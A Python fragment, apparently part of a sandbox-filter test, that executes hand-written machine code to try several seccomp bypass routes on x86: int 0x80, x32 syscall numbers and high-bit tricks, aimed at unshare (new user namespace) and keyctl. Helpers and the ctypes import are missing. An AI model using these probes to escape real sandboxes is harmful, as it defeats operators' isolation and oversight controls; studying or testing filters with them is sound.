# System calls through the other doors of an x86 processor, past a filter that knows one only.
import mmap


def machine_code(code):
    m = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    m.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(m))
    r = ctypes.CFUNCTYPE(ctypes.c_int32)(address)()
    return name(-r) if r < 0 else "done"


# mov eax, NR; mov ebx, ARG; int 0x80
def i386(number, argument):
    return lambda: machine_code(b"\x53\xb8" + number.to_bytes(4, "little") + b"\xbb" + argument.to_bytes(4, "little") + b"\xcd\x80\x5b\xc3")


attempt("int80 getpid", i386(20, 0))
attempt("int80 unshare", i386(310, 0x10000000))
attempt("int80 keyctl", i386(288, 0))
attempt("x32 getpid", lambda: call(0x40000000 + 39) and None)
attempt("x32 unshare", lambda: call(0x40000000 + 272, 0x10000000))
attempt("high bits", lambda: call(0x7FFFFFFF))
attempt("upper half", lambda: call((1 << 32) + nr["unshare"], 0x10000000))
attempt("flags in the upper half", lambda: call(nr["unshare"], (1 << 63) | 0x10000000))
